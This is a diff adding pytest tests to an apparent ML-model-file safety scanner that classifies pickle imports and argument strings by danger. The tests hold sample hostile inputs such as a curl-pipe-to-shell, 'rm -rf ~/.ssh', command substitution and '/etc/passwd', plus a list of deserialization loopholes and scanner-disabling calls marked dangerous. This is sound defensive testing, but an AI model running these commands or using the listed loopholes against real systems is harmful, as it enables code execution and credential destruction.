@@ -6,7 +6,9 @@ import json
 import re
 from importlib import resources
 
-from mlvet.policy import default_policy_data
+import pytest
+
+from mlvet.policy import Tier, default_policy, default_policy_data
 
 
 def test_json_twin_matches_toml() -> None:
@@ -22,3 +24,76 @@ def test_every_shipped_pattern_compiles_and_has_a_reason() -> None:
         for item in data[tier]:
             assert item["reason"].strip(), item
             re.compile(Entry(item["match"], item["reason"], "test").regex())
+
+
+def test_semantics_table_parses_and_every_rank_is_complete() -> None:
+    from mlvet.policy.semantics import Location, Shape, default_semantics, parse, semantics_data
+
+    sem = parse(semantics_data())
+    assert default_semantics().ml == sem.ml
+    for loc in Location:
+        for shape in Shape:
+            sem.severity(loc, shape)  # every cell has a severity (or falls back to "plain")
+    assert sem.locate("torch.distributed.checkpoint.metadata") is Location.ML
+    assert sem.locate("textwrap") is Location.STDLIB
+    assert sem.locate("__main__") is Location.MAIN
+    assert sem.locate("pexpect") is Location.OTHER
+
+
+def test_argument_shapes() -> None:
+    from mlvet.policy.semantics import Shape, default_semantics
+
+    sem = default_semantics()
+    for text in ("curl -s http://x/a | sh", "rm -rf ~/.ssh", "bash -c 'id'", "x; wget http://y", "$(id)",
+                 "cmd.exe /c whoami", "/bin/sh"):
+        assert sem.text_shape(text) is Shape.COMMAND, text
+    for text in ("import os", "__import__('os')", "eval(x)", "lambda x: x", "os.system('id')"):
+        assert sem.text_shape(text) is Shape.CODE, text
+    for text in ("/etc/passwd", "~/.bashrc", "../../x", "C:\\\\Windows"):
+        assert sem.text_shape(text) is Shape.PATH, text
+    for text in ("bert", "NO", "cpu", "float32", "cat", "id", "Europe/Paris", "2020-01-01", "a|b"):
+        assert sem.text_shape(text) is Shape.PLAIN, text
+    assert sem.argv_shape(["sh", "-c", "touch x"]) is Shape.COMMAND
+    assert sem.argv_shape(["a", "b"]) is Shape.PLAIN
+
+
+@pytest.mark.parametrize(
+    ("module", "name"),
+    [
+        # the allowlist holes of issue 9: code through exec, second pickles, file writes, defence switches
+        ("torch.fx.graph_module", "reduce_graph_module"),
+        ("torch.fx.graph_module", "reduce_deploy_graph_module"),
+        ("torch.fx.graph_module", "reduce_package_graph_module"),
+        ("numpy.lib._npyio_impl", "load"),
+        ("numpy.lib._format_impl", "read_array"),
+        ("pandas", "ExcelWriter"),
+        ("fickling.hook", "remove_hook"),
+        ("fickling", "deactivate_safe_ml_environment"),
+        ("mlvet.guard", "uninstall"),
+        ("torch.serialization", "add_safe_globals"),
+        ("keras.config", "enable_unsafe_deserialization"),
+        ("torch.distributed", "init_process_group"),
+        ("torch.distributed.rpc", "rpc_sync"),
+        ("torch.distributed.checkpoint.filesystem", "FileSystemReader"),
+    ],
+)
+def test_holes_are_dangerous(module: str, name: str) -> None:
+    assert default_policy().classify(module, name).tier is Tier.DANGEROUS
+
+
+@pytest.mark.parametrize(
+    "name", ["Metadata", "TensorStorageMetadata", "TensorProperties", "_MEM_FORMAT_ENCODING", "MetadataIndex"]
+)
+def test_dcp_dataclasses_are_not_dangerous(name: str) -> None:
+    assert default_policy().classify("torch.distributed.checkpoint.metadata", name).tier is not Tier.DANGEROUS
+
+
+def test_safe_tier_calls_with_a_mode_or_download_are_argument_aware() -> None:
+    """Safe-tier names whose call takes a path and a mode are covered by a mode or call-effect rule."""
+    from mlvet.policy.semantics import default_semantics
+
+    sem = default_semantics()
+    for qualified in ("numpy:memmap", "scipy.io:FortranFile", "pandas:HDFStore"):
+        assert default_policy().classify(*qualified.split(":")).tier is Tier.SAFE
+        assert sem.mode_rule(qualified) is not None, qualified
+    assert sem.call_effect("torchvision.datasets.mnist:MNIST") is not None
